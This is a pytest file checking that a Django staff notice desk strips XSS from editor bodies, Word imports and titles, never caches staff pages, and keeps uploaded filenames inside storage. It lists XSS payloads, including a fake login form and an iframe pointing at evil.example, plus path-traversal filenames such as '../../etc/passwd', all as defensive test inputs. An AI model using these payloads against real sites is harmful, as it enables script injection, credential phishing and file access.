"""Markup injected through the staff notice desk: the editor's body (saved and in the
unsaved preview), a Word file's text and hyperlinks, titles in the 修订记录 diff; the
desk's responses are never cached; names of uploaded files never escape the store."""

from __future__ import annotations

import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from catalog import services
from catalog.attachments import attachment_add
from catalog.docx_import import convert_docx
from catalog.models import Attachment, Notice
from catalog.sanitize import clean_body
from tests.catalog.public_data import at, publish
from tests.catalog.test_staff_notices import form

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '<img src="x" onerror="alert(1)">',
    '<img src="/xxgk/3f2504e0-4f89-11d3-9a0c-0305e82c3301/fujian/1/" onerror="alert(1)">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">点此</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">点此</a>',
    '<a href="&#106;avascript:alert(1)">点此</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点此</a>',
    '<a href="vbscript:msgbox(1)">点此</a>',
    '<p style="background:url(javascript:alert(1))">样式</p>',
    "<style>body{display:none}</style>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>登录</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p onclick="alert(1)" onmouseover="alert(1)">事件</p>',
    '<table background="javascript:alert(1)"><tr><td>表</td></tr></table>',
]
# active content in markup (escaped text such as "&lt;img onerror=…&gt;" is harmless)
DANGER = re.compile(
    r"<(script|svg|style|base|form|input|iframe|object|embed|meta|math|noscript)\b"
    r"|<[^>]*\s(on\w+|style|background)\s*="
    r"|(href|src|action)\s*=\s*[\"']?\s*(javascript|vbscript|data):",
    re.I,
)


def _body_of(page: str) -> str:
    """The notice body region of the public template (the rest is the site's own)."""
    match = re.search(r'<div class="article-body">(.*?)\n  </div>', page, re.S)
    assert match, "no article body"
    return match.group(1)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_sanitiser_removes_every_active_construct(payload):
    cleaned = clean_body(f"<p>前</p>{payload}<p>后</p>")
    assert not DANGER.search(cleaned), cleaned
    assert "<p>前</p>" in cleaned


def test_editor_body_saved_and_previewed_carries_no_active_content(
    staff_client, agency
):
    body = "<p>正文</p>" + "".join(PAYLOADS)
    response = staff_client.post(reverse("catalog:staff_notice_new"), form(body=body))
    assert response.status_code == 302
    notice = Notice.objects.get()
    assert not DANGER.search(notice.body), notice.body
    saved = staff_client.get(
        reverse("catalog:staff_notice_preview", args=[notice.pk])
    ).content.decode()
    unsaved = staff_client.post(
        reverse("catalog:staff_notice_preview_unsaved"),
        form(body=body, notice_pk=str(notice.pk)),
    ).content.decode()
    for page in (saved, unsaved):
        assert "正文" in page
        assert not DANGER.search(_body_of(page))
        assert "evil.example" not in page


def test_title_markup_is_escaped_in_the_editor_preview_and_history(
    staff_client, agency, staff_user
):
    title = '<img src=x onerror=alert(1)>通知"><script>alert(2)</script>'
    notice = publish(agency=agency, title="原标题", published_at=at(2026, 3, 2))
    services.notice_update(
        notice=notice, by=staff_user, title=title, security_review_confirmed=True
    )
    for name in (
        "catalog:staff_notice_history",
        "catalog:staff_notice_preview",
        "catalog:staff_notice_edit",
    ):
        page = staff_client.get(reverse(name, args=[notice.pk])).content.decode()
        assert "<script>alert(2)" not in page, name
        assert "<img src=x" not in page, name
        assert "&lt;img src=x onerror=alert(1)&gt;" in page, name
    listing = staff_client.get(reverse("catalog:staff_notice_list")).content.decode()
    assert "<img src=x" not in listing


def _docx_with_link_and_markup(url: str) -> bytes:
    doc = Document()
    doc.add_paragraph("关于测试的通知")
    doc.add_paragraph('<script>alert(1)</script><img src=x onerror="alert(2)">')
    paragraph = doc.add_paragraph("详见")
    r_id = paragraph.part.relate_to(url, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), r_id)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "此处"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ],
)
def test_a_word_file_brings_no_active_content(staff_client, url):
    data = _docx_with_link_and_markup(url)
    result = convert_docx(data, "通知.docx")
    assert not DANGER.search(result.body_html), result.body_html
    assert "&lt;script&gt;" in result.body_html  # the text stays text
    response = staff_client.post(
        reverse("catalog:staff_notice_import_docx"),
        {"file": SimpleUploadedFile("通知.docx", data)},
    )
    assert response.status_code == 302
    review = staff_client.get(response["Location"]).content.decode()
    assert "<script>alert(1)" not in review
    assert not re.search(r"javascript:|vbscript:|data:text", review, re.I)
    created = staff_client.post(response["Location"], {"title": "关于测试的通知"})
    assert created.status_code == 302
    assert not DANGER.search(Notice.objects.get().body)


def test_a_used_or_foreign_docx_token_does_nothing(
    staff_client, agency, teammate_user, other_staff_user
):
    from tests.catalog.docx_samples import plain_docx

    response = staff_client.post(
        reverse("catalog:staff_notice_import_docx"),
        {"file": SimpleUploadedFile("通知.docx", plain_docx("标题", "正文"))},
    )
    review = response["Location"]
    # another user, same agency or not: 404, also for the picture URL
    for user in (teammate_user, other_staff_user):
        client = Client()
        client.force_login(user)
        assert client.get(review).status_code in (403, 404)
        assert client.post(review, {"title": "冒用"}).status_code in (403, 404)
    assert staff_client.post(review, {"title": "标题"}).status_code == 302
    # used once: a second POST creates nothing
    again = staff_client.post(review, {"title": "标题"})
    assert again.status_code == 302
    assert again["Location"] == reverse("catalog:staff_notice_import_docx")
    assert Notice.objects.count() == 1


def test_preview_and_staff_files_are_never_cached(staff_client, agency):
    notice = publish(agency=agency, title="已发布", published_at=at(2026, 3, 2))
    attachment = attachment_add(
        notice=notice, by=None, name="附件.txt", content="内容".encode()
    )
    urls = [
        reverse("catalog:staff_notice_preview", args=[notice.pk]),
        reverse("catalog:staff_attachment", args=[notice.pk, attachment.pk]),
        reverse("catalog:staff_notice_history", args=[notice.pk]),
        reverse("catalog:staff_notice_edit", args=[notice.pk]),
        reverse("catalog:staff_notice_list"),
    ]
    for url in urls:
        response = staff_client.get(url)
        assert response.status_code == 200, url
        cache_control = response["Cache-Control"]
        assert "no-store" in cache_control, url
        assert "private" in cache_control, url
        assert "public" not in cache_control, url
        assert not response.has_header("ETag"), url
    # an anonymous visitor gets the login page, never a stored copy
    client = Client()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302, url
        assert "/staff/login/" in response["Location"]


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/passwd.txt",
        "..\\..\\windows\\win.ini.txt",
        "/etc/cron.d/evil.txt",
        "a/../../b.txt",
        "名单\x00.txt",
        "%2e%2e%2fsecret.txt",
        "\u202etxt.exe",
    ],
)
def test_uploaded_file_names_never_leave_the_store(agency, settings, name):
    notice = publish(agency=agency, title="已发布", published_at=at(2026, 3, 2))
    try:
        attachment = attachment_add(
            notice=notice, by=None, name=name, content="内容".encode()
        )
    except ValidationError:  # a refusal is fine: a clean one, nothing stored
        assert not Attachment.objects.exists()
        return
    stored = attachment.file.path
    assert stored.startswith(str(settings.MEDIA_ROOT))
    assert ".." not in attachment.file.name
    assert "/" not in attachment.name
    assert "\\" not in attachment.name
    assert "\x00" not in attachment.name
    assert "\u202e" not in attachment.name
